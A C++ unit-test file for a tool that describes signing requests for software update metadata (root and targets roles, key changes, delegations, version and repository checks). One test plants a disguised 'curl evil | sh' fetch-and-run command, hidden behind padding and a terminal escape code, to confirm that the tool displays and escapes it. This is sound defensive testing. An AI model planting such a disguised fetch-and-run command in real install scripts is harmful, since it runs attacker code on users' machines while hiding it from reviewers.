#include "seeder/ceremony/describe.h"

#include <gtest/gtest.h>

#include "tests/support/signing_requests.h"

namespace lanyard::ceremony::describe_test {
namespace {

using support::Ceremony;

constexpr trust::TimePoint kNow{std::chrono::seconds(1'800'000'000)};

std::string words_for(v1::SigningRequest const& message, Anchor const& anchor) {
    auto const request = signing::Request::from(message).value();
    auto const published = find_published(request, anchor, kNow);
    if (!published) return "refused: " + published.error().detail;
    auto const words = describe(request, *published, kNow);
    return words ? *words : "refused: " + words.error().detail;
}

// Of the first root in the message: for tests that are not about where trust comes from.
std::string words_for(v1::SigningRequest const& message) {
    if (message.current().empty()) return words_for(message, Anchor());
    return words_for(message, {trust::sha256(message.current(0).envelope().SerializeAsString()), {}});
}

std::string full_id(signing::Signer const& signer) { return trust::key_id(signer.public_key()).to_hex(); }

bool has(std::string const& words, std::string const& part) { return words.find(part) != std::string::npos; }

TEST(Describe, NamesReleasesThatComeGoAndChange) {
    Ceremony const ceremony;
    auto const words = words_for(ceremony.new_release());
    EXPECT_TRUE(has(words, "targets 2, in place of targets 1\n")) << words;
    EXPECT_TRUE(has(words, "+ 'shop' '2.0.0' on 'stable' for 'linux'/'amd64'")) << words;
    EXPECT_TRUE(has(words, "- 'shop' '1.0.0' on 'stable'")) << words;
    EXPECT_TRUE(has(words, "~ 'shop' '1.1.0' on 'stable'")) << words;
    EXPECT_TRUE(has(words, "start 'run.sh' instead of 'start.sh'")) << words;
    EXPECT_TRUE(has(words, "2 releases in all")) << words;
    EXPECT_TRUE(has(words, "holds until 2030-03-17T17:46:40Z (in 1157 days)")) << words;
}

TEST(Describe, NamesKeysThatComeAndGo) {
    Ceremony const ceremony;
    auto const words = words_for(ceremony.new_root_key());
    auto const added = full_id(*ceremony.fresh);
    auto const gone = full_id(*ceremony.root[2]);
    EXPECT_TRUE(has(words, "root 2, in place of root 1\n")) << words;
    EXPECT_TRUE(has(words, "+ key " + added + " may sign for root")) << words;
    EXPECT_TRUE(has(words, "- key " + gone + " may no longer sign for root")) << words;
    EXPECT_TRUE(has(words, "needs 2 of 3 root keys of root 1")) << words;
    EXPECT_TRUE(has(words, "needs 2 of 3 root keys of root 2")) << words;
}

TEST(Describe, SaysWhoHasSigned) {
    Ceremony const ceremony;
    auto request = signing::Request::from(ceremony.new_root_key()).value();
    ASSERT_TRUE(request.sign(*ceremony.root[0]));
    auto const words = words_for(request.to_proto());
    EXPECT_TRUE(has(words, full_id(*ceremony.root[0]) + " (has signed)")) << words;
    EXPECT_FALSE(has(words, full_id(*ceremony.root[1]) + " (has signed)")) << words;
}

TEST(Describe, ShowsACommandToItsEndAndNoControlCharacters) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    v1::Targets next;
    ASSERT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    auto const harmless = std::string(300, ' ');
    next.mutable_targets(1)->mutable_install()->set_start("true" + harmless + "\x1b[2Kcurl evil | sh");
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    auto const words = words_for(message);
    EXPECT_TRUE(has(words, harmless + "\\x1b[2Kcurl evil | sh'")) << words;
    EXPECT_FALSE(has(words, "\x1b"));
}

TEST(Describe, SaysThatAReleaseIsInAHurry) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    v1::Targets next;
    ASSERT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    next.mutable_targets(1)->mutable_install()->set_critical(true);
    next.mutable_targets(1)->mutable_install()->set_deadline_hours(48);
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    EXPECT_TRUE(has(words_for(message), "urgency critical, deadline 48 h")) << words_for(message);
}

TEST(Describe, WarnsOfWhatItHasNoWordsFor) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    auto& payload = *message.mutable_to_sign(0)->mutable_envelope()->mutable_payload();
    payload += "\xc2\x3e\x01x";  // field 1000, which nodes ignore
    EXPECT_TRUE(has(words_for(message), "WARNING: it holds fields")) << words_for(message);
}

TEST(Describe, NamesDelegationsThatComeAndGo) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    v1::Targets next;
    ASSERT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    *next.add_keys() = ceremony.fresh->public_key();
    auto& delegation = *next.add_delegations();
    delegation.set_name("shop-team");
    delegation.add_keyids(trust::key_id(ceremony.fresh->public_key()).to_raw());
    delegation.set_threshold(1);
    delegation.add_paths("shop/*/*/*/*");
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    auto const id = full_id(*ceremony.fresh);
    EXPECT_TRUE(
        has(words_for(message), "+ delegated to 'shop-team': 1 of 1 keys have to sign: " + id + ", for 'shop/*/*/*/*'"))
        << words_for(message);
}

// Of two roles that may name one path, the first is believed.
TEST(Describe, NamesTheOrderOfDelegationsWhenThatAloneChanges) {
    Ceremony const ceremony;
    v1::Targets targets;
    ASSERT_TRUE(targets.ParseFromString(ceremony.published().current(1).envelope().payload()));
    *targets.add_keys() = ceremony.fresh->public_key();
    for (auto const* name : {"shop-team", "till-team"}) {
        auto& delegation = *targets.add_delegations();
        delegation.set_name(name);
        delegation.add_keyids(trust::key_id(ceremony.fresh->public_key()).to_raw());
        delegation.set_threshold(1);
        delegation.add_paths("*/*/*/*/*");
    }
    auto message = ceremony.published();
    message.mutable_current()->RemoveLast();
    Ceremony::put(*message.add_current(), trust::RoleName::targets, targets.SerializeAsString(),
                  {ceremony.targets.get()});
    targets.set_version(2);
    Ceremony::put(*message.add_to_sign(), trust::RoleName::targets, targets.SerializeAsString(), {});
    EXPECT_FALSE(has(words_for(message), "believed first")) << words_for(message);
    targets.mutable_delegations()->SwapElements(0, 1);
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(targets.SerializeAsString());
    EXPECT_TRUE(has(words_for(message),
                    "~ who is believed first of the roles delegated to: 'till-team', 'shop-team'\n"
                    "        before: 'shop-team', 'till-team'\n"))
        << words_for(message);
}

TEST(Describe, WarnsOfAVersionThatDoesNotFollow) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    EXPECT_FALSE(has(words_for(message), "WARNING")) << words_for(message);
    v1::Targets next;
    ASSERT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    next.set_version(9'007'199'254'740'991);
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    EXPECT_TRUE(has(words_for(message), "WARNING: this is not the version that follows")) << words_for(message);
}

TEST(Describe, RefusesTargetsOfAnotherRepository) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    v1::Targets next;
    ASSERT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    next.set_repo_id(std::string(16, 'q'));
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    EXPECT_TRUE(words_for(message).starts_with("refused: the targets to be signed are of another repository"));
}

TEST(Describe, SaysThatARepositoryIsNew) {
    Ceremony const ceremony;
    v1::SigningRequest first;
    first.set_schema(1);
    *first.add_to_sign() = ceremony.published().current(0);
    auto const words = words_for(first);
    EXPECT_TRUE(has(words, "root 1, compared with nothing")) << words;
    EXPECT_TRUE(has(words, "This is a NEW repository")) << words;
}

}  // namespace
}  // namespace lanyard::ceremony::describe_test
